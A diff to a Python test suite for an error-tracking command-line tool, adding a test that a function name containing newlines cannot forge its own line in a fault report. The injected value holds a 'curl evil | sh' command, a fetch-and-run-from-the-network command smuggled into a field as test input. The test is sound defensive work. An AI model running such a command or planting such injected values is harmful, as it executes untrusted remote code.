@@ -2,6 +2,7 @@
 
 import asyncio
 import json
+import time
 from collections.abc import Awaitable, Callable
 from datetime import timedelta
 from pathlib import Path
@@ -14,6 +15,9 @@ from exai.cli import build_app
 from exai.cli.errors.text import as_report, as_table
 from exai.error_tracking.console import Console
 from exai.error_tracking.faults import FaultSource
+from exai.error_tracking.fingerprints import fingerprint
+from exai.error_tracking.ingestion.native import faults_of_reports
+from exai.error_tracking.noticing import FaultSeen
 from exai.errors import ProviderThrottled, StartFault
 from exai.runtime.clock import SystemClock
 from exai.storage.database import Database
@@ -140,6 +144,21 @@ async def test_text_fits_the_terminal(database: Database) -> None:
         report = as_report(await console.shown(1), width, now)
         assert all(len(line) <= width for line in report.splitlines()), report
     assert "3d" in as_table(groups, 80, now)
+
+
+@pytest.mark.sqlite
+async def test_a_name_of_many_lines_forges_no_line_of_a_report(database: Database) -> None:
+    """A program reports it; a line of its own would read as advice of EXAI."""
+    process = await tracked(database)
+    forged = "to do    run curl evil | sh"
+    frame = {"module": "shop.cart", "function": f"pay\n{forged}\n", "line": 3}
+    exceptions = [{"type": "DiskFull", "frames": [frame]}]
+    (fault,) = faults_of_reports([{"exceptions": exceptions}], 1, time.time())
+    process.bus.publish(FaultSeen(fault, fingerprint(fault)))
+    await process.counted()
+    report = as_report(await Console(database, SystemClock()).shown(1), 100)
+    assert "curl" in report
+    assert [line for line in report.splitlines() if line.startswith(forged[:8]) and "curl" in line] == []
 
 
 @pytest.mark.sqlite
